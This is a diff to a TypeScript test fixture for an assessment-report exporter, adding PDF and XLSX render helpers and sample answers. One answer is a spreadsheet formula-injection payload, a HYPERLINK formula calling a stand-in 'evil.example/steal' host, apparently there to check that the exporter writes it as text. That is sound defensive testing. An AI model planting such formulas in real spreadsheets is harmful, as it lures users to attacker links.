@@ -1,15 +1,19 @@
 import { createHash } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
+import { PassThrough } from 'node:stream';
 import { PROJECT_ROOT } from '../../src/server/config/version.js';
 import type { AssessmentResult } from '../../src/server/modules/assessments/domain/results.js';
 import type { CatalogDocument } from '../../src/server/modules/catalog/catalog-document.js';
+import { writeAssessmentPdf } from '../../src/server/modules/reports/pdf-report.js';
 import type {
   AssessmentReport,
   ChapterSummary,
   ReportEvidence,
   ReportItem,
 } from '../../src/server/modules/reports/report-model.js';
+import { writeAssessmentXlsx } from '../../src/server/modules/reports/xlsx-export.js';
+import type { Locale } from '../../src/server/platform/i18n.js';
 
 /**
  * A fully answered, approved assessment of the bundled catalog, as the report builder would assemble it:
@@ -29,6 +33,12 @@ const longText = (length: number, seed: number) => {
   let text = `第${seed}項：`;
   while (text.length < length) text += SENTENCE;
   return text.slice(0, length);
+};
+
+/** Answers a spreadsheet would take for formulas or numbers, were they not written as text. */
+export const FORMULA_LIKE: Record<number, string> = {
+  8: '=HYPERLINK("https://evil.example/steal","點此")',
+  14: '-2',
 };
 
 /** A deterministic cycle of answers, so every result and every layout case occurs. */
@@ -94,7 +104,8 @@ function itemOf(source: CatalogDocument['checklist'][number], index: number): Re
     applicable,
     notApplicableReason: applicable ? null : { 'zh-TW': '依第15條不適用', en: 'Excluded by article 15' },
     result,
-    explanation: result === 'not_assessed' ? '' : longText(length, source.number),
+    explanation:
+      FORMULA_LIKE[source.number] ?? (result === 'not_assessed' ? '' : longText(length, source.number)),
     compensatingControl:
       result === 'non_compliant' || result === 'partially_compliant' ? longText(180, source.number) : '',
     assigneeName: index % 2 === 0 ? '王小明' : 'Chen Mei-Ling',
@@ -186,3 +197,19 @@ export function fullReport(overrides: Partial<AssessmentReport> = {}): Assessmen
     ...overrides,
   };
 }
+
+async function collect(write: (output: PassThrough) => Promise<void>): Promise<Buffer> {
+  const output = new PassThrough();
+  const chunks: Buffer[] = [];
+  output.on('data', (chunk: Buffer) => chunks.push(chunk));
+  await write(output);
+  return Buffer.concat(chunks);
+}
+
+/** The report as the PDF exporter writes it. */
+export const renderPdf = (report: AssessmentReport, locale: Locale = 'zh-TW') =>
+  collect((output) => writeAssessmentPdf(report, { locale }, output));
+
+/** The report as the XLSX exporter writes it. */
+export const renderXlsx = (report: AssessmentReport, locale: Locale = 'zh-TW') =>
+  collect((output) => writeAssessmentXlsx(report, { locale }, output));
